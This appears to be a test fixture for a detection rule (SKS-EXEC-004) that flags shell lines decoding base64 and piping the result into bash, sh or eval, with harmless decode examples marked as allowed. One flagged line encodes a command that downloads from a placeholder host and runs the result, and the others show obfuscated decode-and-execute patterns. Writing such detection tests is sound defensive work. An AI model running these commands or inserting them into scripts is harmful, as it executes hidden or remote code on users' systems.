#!/bin/bash
# ruleid: SKS-EXEC-004
echo 'Y3VybCBleGFtcGxlLmludmFsaWQgfCBiYXNo' | base64 -d | bash
# ruleid: SKS-EXEC-004
printf '%s' "$blob" | base64 --decode | sh
# ruleid: SKS-EXEC-004
eval "$(echo "$blob" | base64 -d)"
# ok: SKS-EXEC-004
echo "$token" | base64 -d > token.bin
# ok: SKS-EXEC-004
base64 -d image.b64 > image.png
